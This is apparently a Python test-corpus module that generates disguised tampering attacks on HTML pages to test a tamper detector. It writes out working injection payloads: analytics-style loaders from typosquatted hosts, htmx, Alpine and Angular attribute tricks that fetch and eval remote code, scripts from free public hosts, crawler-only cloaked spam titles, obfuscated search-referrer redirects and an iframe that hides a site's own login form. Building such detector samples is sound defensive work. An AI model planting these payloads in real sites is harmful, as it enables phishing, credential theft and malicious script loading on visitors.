"""Attacks that take pains to look like something ordinary."""

# ruff: noqa: E501 — markup and scripts read best unbroken

from __future__ import annotations

import re
from random import Random

from tests.tamper.corpus.attacks.kit import (
    address,
    attack,
    body_place,
    garble,
    hide,
    host,
    insert,
    place,
    script_path,
    tagged,
)
from tests.tamper.corpus.attacks.vice import terms
from tests.tamper.corpus.markup import Document, Edit, apply, escape, plain_text, set_attribute
from tests.tamper.corpus.site import Site, link, token

_SQUATS = (
    "googletagmanger.com", "googie-analytics.com", "google-analytics.cm", "gtm-analytics.net", "www-googletagmanager.com", "hotjar-static.com",
    "connect-facebook.net", "cdn-jquery.info", "statcounter-cdn.xyz", "clarlty.ms", "hm-baidu.com", "yandex-metrika.top", "analytlcs-google.com",
)  # fmt: skip


@attack("fake_analytics", "malicious_script")
def fake_analytics(site: Site, document: Document, rng: Random) -> str | None:
    """The snippet of a well-known tag, from a host that is nearly the well-known one."""
    squat = rng.choice(_SQUATS)
    html = rng.choice([
        f'<script async src="https://{squat}/gtag/js?id=G-{token(rng, 8).upper()}"></script><script>window.dataLayer=window.dataLayer||[];function gtag(){{dataLayer.push(arguments)}}gtag("js",new Date());</script>',
        f"<script>(function(w,d,s,l,i){{w[l]=w[l]||[];var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src='https://{squat}/gtm.js?id='+i;f.parentNode.insertBefore(j,f)}})(window,document,'script','dataLayer','GTM-{token(rng, 6).upper()}');</script>",
        f'<script>var _hmt=_hmt||[];(function(){{var hm=document.createElement("script");hm.src="https://{squat}/hm.js?{token(rng)}";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s)}})();</script>',
    ])  # fmt: skip
    return insert(document, rng.choice([document.head_end, document.body_end, document.head_start]), html)


@attack("inline_host_swapped", "malicious_script")
def inline_host_swapped(site: Site, document: Document, rng: Random) -> str | None:
    """The host an inline script of the page's own loads from is another; nothing else changes."""
    found: list[tuple[int, int]] = []
    for script in document.find("script"):
        if "src" in script.attributes or "json" in script.attributes.get("type", ""):
            continue
        matches = re.finditer(r"(?<=//)[\w-]+(?:\.[\w-]+)+(?=/[\w./-]*\.js)", document.inner(script))
        found += [(script.inner + match.start(), script.inner + match.end()) for match in matches]
    if not found:
        return None
    start, end = rng.choice(found)
    return apply(document.source, [Edit(start, end, host(rng, site))])


@attack("framework_attribute", "malicious_script")
def framework_attribute(site: Site, document: Document, rng: Random) -> str | None:
    """Attributes that well-known libraries carry out."""
    source = address(rng, site, script_path(rng))
    html = rng.choice([
        f'<div hx-get="{source}" hx-trigger="load" hx-swap="outerHTML"></div>', f'<script src="/js/require.js" data-main="{source}"></script>',
        f"<div x-data x-init=\"fetch('{source}').then(r=>r.text()).then(t=>eval(t))\"></div>", f"<div ng-app ng-init=\"constructor.constructor('import(\\'{source}\\')')()\"></div>",
        f'<object type="text/x-scriptlet" data="{source}"></object>', f'<math><mtext><a xlink:href="javascript:import(\'{source}\')">&nbsp;</a></mtext></math>',
    ])  # fmt: skip
    return insert(document, body_place(document, rng), html)


@attack("abused_cdn", "malicious_script")
def abused_cdn(site: Site, document: Document, rng: Random) -> str | None:
    """A stranger's file on a public, free host."""
    who, what = token(rng, 8, "abcdefghijklmnop"), token(rng, 5)
    source = rng.choice([
        f"https://raw.githubusercontent.com/{who}/{what}/main/a.js", f"https://{who}.s3.amazonaws.com/{what}.js", f"https://pastebin.com/raw/{what}",
        f"https://{who}.firebaseapp.com/{what}.js", f"https://{who}.pages.dev/{what}.js", f"https://gist.githubusercontent.com/{who}/{token(rng)}/raw/x.js",
        f"https://storage.googleapis.com/{who}/{what}.js", f"https://{who}.netlify.app/{what}.js", f"https://{who}.oss-cn-hangzhou.aliyuncs.com/{what}.js",
    ])  # fmt: skip
    return insert(document, place(document, rng), f'<script src="{source}"></script>')


def _disguised(rng: Random, word: str) -> str:
    """The same word to a reader's eye."""
    wide = str.maketrans({c: chr(ord(c) + 0xFEE0) for c in map(chr, range(0x21, 0x7F))})
    alike = str.maketrans("aceopx", "асеорх")
    return rng.choice([
        "".join(f"&#{ord(c)};" for c in word), "".join(f"&#x{ord(c):x};" for c in word), word.translate(wide), word.translate(alike),
        "\u200b".join(word), "\u00ad".join(word), "·".join(word), " ".join(word) if len(word) < 6 else word.upper(),
    ])  # fmt: skip


@attack("disguised_words", "sensitive_word")
def disguised_words(site: Site, document: Document, rng: Random) -> str | None:
    """Spam words written so that a list of words doesn't find them at once."""
    words = [_disguised(rng, word) for word in terms(rng, site.language, 6)]
    return insert(document, body_place(document, rng), f"<p>{' '.join(words)}</p>")


@attack("disguised_title", "seo_spam")
def disguised_title(site: Site, document: Document, rng: Random) -> str | None:
    """The title in numeric references, with a script that shows visitors the old one."""
    title = document.first("title")
    if title is None:
        return None
    spam = "_".join("".join(f"&#{ord(c)};" for c in word) for word in terms(rng, site.language, 4))
    old = document.inner(title).strip()
    script = f'<script>if(!navigator.userAgent.match(/baidu|google|sogou|360spider|bing/i))document.title="{escape(plain_text(old))}";</script>'
    meta = f'<meta name="keywords" content="{spam}"><meta name="description" content="{spam}">'
    return apply(
        document.source, [Edit(title.inner, title.inner_end, spam), Edit(title.end, title.end, meta + script)]
    )


@attack("main_emptied", "content_removed")
def main_emptied(site: Site, document: Document, rng: Random) -> str | None:
    """The element with most of the words is empty."""
    total = len(plain_text(document.source[document.body_start :]))
    blocks = [
        e
        for e in document.elements
        if e.name in {"div", "main", "td", "table", "article", "section"} and e.start > document.body_start
    ]
    best = [e for e in blocks if 0.75 * total < len(document.text(e))]
    if not best:
        return None
    chosen = min(best, key=lambda e: e.inner_end - e.inner)
    return apply(document.source, [Edit(chosen.inner, chosen.inner_end, "")])


@attack(
    "links_in_live_region", "dark_link",
    among=("rotating_ads", "sponsored_links", "related", "comments", "press_review", "tweets"),
)  # fmt: skip
def links_in_live_region(site: Site, document: Document, rng: Random) -> str | None:
    """Hidden or spammy links right where advertisements or news change anyway."""
    live = [
        b for b in document.blocks
        if re.search(r"banner|sponsored|related|comments|press|headlines|tweets|adzone|latest", b.attributes.get("class", ""))
    ]  # fmt: skip
    if not live:
        return None
    word = terms(rng, site.language, 2)
    inner = " ".join(link(address(rng, site), w) for w in word)
    html = hide(rng, inner) if rng.random() < 0.6 else inner
    return insert(document, rng.choice(live).inner_end, html)


@attack(
    "script_in_live_region",
    "malicious_script",
    among=("rotating_ads", "sponsored_links", "ad_script_hosts", "script_ads"),
)
def script_in_live_region(site: Site, document: Document, rng: Random) -> str | None:
    """A script among advertisements, from a host that never served any."""
    live = [
        b
        for b in document.blocks
        if re.search(
            r"banner|sponsored|adzone|adframe|(?:^|[\s-])ad(?:$|[\s_-])", b.attributes.get("class", "")
        )
    ]
    if not live:
        return None
    source = address(
        rng, site, rng.choice(["delivery/ajs.php?zoneid=1", "ad.js", "banner.js", script_path(rng)])
    )
    return insert(document, rng.choice(live).inner_end, f'<script src="{source}"></script>')


@attack("own_path_redirect", "redirect")
def own_path_redirect(site: Site, document: Document, rng: Random) -> str | None:
    """A script that sends visitors from search engines away, its target put together from pieces."""
    target = host(rng, site)
    cut = len(target) // 2
    code = (
        f"var r=document.referrer,u='ht'+'tps:/'+'/'+'{target[:cut]}'+'{target[cut:]}'+'/';"
        "if(/(baidu|sogou|google|bing|yahoo|yandex|duckduckgo)\\./i.test(r)){top['location']['href']=u}"
    )
    return insert(document, place(document, rng), tagged(garble(rng, code), rng))


@attack("login_link_repointed", "form_hijack", needs=("login",))
def login_link_repointed(site: Site, document: Document, rng: Random) -> str | None:
    """A password field's form in a frame of somebody else's, laid over the page's own."""
    forms = document.find("form")
    if not forms:
        return None
    form = rng.choice(forms)
    frame = f'<iframe src="{address(rng, site, "login")}" style="border:0;width:100%;height:240px"></iframe>'
    tag = set_attribute(document.source[form.start : form.inner], "style", "display:none")
    return apply(document.source, [Edit(form.start, form.inner, frame + tag)])
